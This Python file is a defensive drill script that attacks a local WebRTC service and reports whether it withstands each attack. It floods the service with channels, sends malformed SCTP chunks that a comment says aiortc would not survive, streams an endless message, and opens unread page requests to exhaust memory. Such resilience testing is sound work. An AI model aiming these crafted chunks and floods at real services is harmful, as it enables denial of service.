"""Channels: what can be done to webrtc by callers that have connected.

`python -m tools.drill.hostile.channels PORT OPS_PORT PID` prints a row for each attack, as JSON. It
is a process of its own: its library takes as much of a processor as the service's.
"""

import asyncio
import json
import re
import sys
import time
from collections.abc import Callable
from struct import pack
from typing import NamedTuple

import httpx
from aiortc.rtcsctptransport import (
    SCTP_DATA_FIRST_FRAG,
    WEBRTC_STRING,
    Chunk,
    DataChunk,
    HeartbeatChunk,
    SackChunk,
)

from tools.drill.hostile.channel import connect
from tools.usage import resident

CHANNELS, ALLOWED = 200, 16
READERS, OF_EACH, PAGES = 20, 4, 50
ENDLESS, PART = 8 * 2**20, 1000
# Seconds: a good request, to cut a reader or an endless message, and to end after a violation.
ANSWERED, WITHIN, ENDED = 2.0, 60.0, 5.0
EVERY = 0.5
# MiB.
MIB, SMALL, READER = 2**20, 48.0, 24.0
LIST = (
    '{"jsonrpc": "2.0", "id": 1, "method": "notifications.list", "params": {"page": 1, "size": %d}}'
)
OPEN = re.compile(r'^connections_open\{transport="webrtc"\} (\d+)', re.MULTILINE)


class Victim(NamedTuple):
    """The service's ports, and its process."""

    port: int
    ops: int
    pid: int

    @property
    def memory(self) -> float:
        """The MiB of memory that it holds."""
        return resident(self.pid) / MIB

    async def peers(self) -> int:
        """Return how many peers it has."""
        async with httpx.AsyncClient(verify=False) as client:
            page = (await client.get(f"http://127.0.0.1:{self.ops}/metrics")).text
        found = OPEN.search(page)
        assert found is not None
        return int(found[1])


# The attack, its result, the requirement, whether it is met, and MiB of memory.
Row = tuple[str, str, str, bool, float]


class RawChunk(Chunk):
    """A chunk of any type."""

    def __init__(self, kind: int, body: bytes) -> None:
        super().__init__(body=body)
        self.type = kind


# A parameter without a length, gaps that were never sent, and data without any.
VIOLATIONS: dict[str, Chunk] = {
    "a parameter of length 0": RawChunk(HeartbeatChunk.type, pack("!HH", 1, 0) + bytes(8)),
    "a SACK of 65,535 chunks": RawChunk(SackChunk.type, pack("!LLHHHH", 0, 9, 1, 0, 1, 65_535)),
    "a chunk without data": RawChunk(DataChunk.type, bytes(12)),
}


async def many(victim: Victim) -> Row:
    """Open many channels at once."""
    before = victim.memory
    peer = await connect(victim.port)
    made = await peer.more(CHANNELS)
    await until(lambda: sum(each.closed.is_set() for each in made) > CHANNELS - ALLOWED)
    left = 1 + sum(not each.closed.is_set() for each in made)
    grown = victim.memory - before
    await peer.close()
    return (
        f"{CHANNELS} more channels on one connection",
        f"{left} stay open",
        f"{ALLOWED}, under {SMALL:g} MiB",
        left == ALLOWED and grown < SMALL,
        grown,
    )


async def violation(victim: Victim, what: str, chunk: Chunk) -> Row:
    """Send what aiortc would not survive; another caller is answered at once."""
    before = victim.memory
    peer, other = await connect(victim.port), await connect(victim.port)
    await peer.association._send_chunk(chunk)
    began = time.monotonic()
    other.channel.channel.send(LIST % 1)
    await other.channel.message()
    took = time.monotonic() - began
    await until(peer.channel.closed.is_set, ENDED)
    has_ended = peer.channel.closed.is_set()
    await peer.close()
    await other.close()
    return (
        what,
        f"{'ended' if has_ended else 'kept'}; another caller answered after {took:.1f} s",
        f"ended, answered within {ANSWERED:g} s",
        has_ended and took < ANSWERED,
        victim.memory - before,
    )


async def endless(victim: Victim) -> Row:
    """Send a message that does not end."""
    before = victim.memory
    peer = await connect(victim.port)
    channel, association = peer.channel, peer.association
    for number in range(ENDLESS // PART):
        if channel.closed.is_set():
            break
        chunk = DataChunk(flags=0 if number else SCTP_DATA_FIRST_FRAG)
        chunk.tsn = (association._local_tsn + number) % 2**32
        chunk.stream_id, chunk.protocol = channel.channel.id or 0, WEBRTC_STRING
        chunk.user_data = b"x" * PART
        await association._send_chunk(chunk)
        # Not faster than the system's buffer is emptied.
        await asyncio.sleep(0.001)
    async with asyncio.timeout(WITHIN):
        message = await channel.message()
    grown = victim.memory - before
    await peer.close()
    code = message["error"]["code"] if message else None
    return (
        f"a message of {ENDLESS / MIB:g} MiB without an end",
        f"answered with {code}",
        f"-32003, under {SMALL:g} MiB",
        code == -32003 and grown < SMALL,
        grown,
    )


async def readers(victim: Victim) -> Row:
    """Ask for many pages, and acknowledge none."""
    before = most = victim.memory
    others = await victim.peers()
    made = await asyncio.gather(*(connect(victim.port) for _ in range(READERS)))
    for peer in made:
        for channel in (peer.channel, *(await peer.more(OF_EACH - 1))):
            for _ in range(PAGES):
                channel.channel.send(LIST % 200)
    # The requests arrive, and nothing that comes back is looked at.
    queues = [
        queue
        for peer in made
        for queue in (peer.association._outbound_queue, peer.association._sent_queue)
    ]
    await until(lambda: not any(queues), ENDED)
    for peer in made:
        peer.deafen()
    began = time.monotonic()
    while (left := await victim.peers() - others) > 0 and time.monotonic() - began < WITHIN:
        most = max(most, victim.memory)
        await asyncio.sleep(EVERY)
    took = time.monotonic() - began
    await asyncio.gather(*(peer.close() for peer in made))
    each = (most - before) / READERS
    return (
        f"{READERS} peers, {OF_EACH} channels of {PAGES} pages each, not read",
        f"{left} left after {took:.0f} s, {each:.1f} MiB each",
        f"none within {WITHIN:g} s, under {READER:g} MiB each",
        left <= 0 and each < READER,
        most - before,
    )


async def until(done: Callable[[], bool], within: float = WITHIN) -> None:
    """Wait until it is done, for so many seconds at most."""
    began = time.monotonic()
    while not done() and time.monotonic() - began < within:
        await asyncio.sleep(EVERY / 10)


async def main(victim: Victim) -> None:
    """Attack one way after the other."""
    print(json.dumps(await many(victim)), flush=True)
    for what, chunk in VIOLATIONS.items():
        print(json.dumps(await violation(victim, what, chunk)), flush=True)
    for attack in (endless, readers):
        print(json.dumps(await attack(victim)), flush=True)


if __name__ == "__main__":
    asyncio.run(main(Victim(*map(int, sys.argv[1:]))))
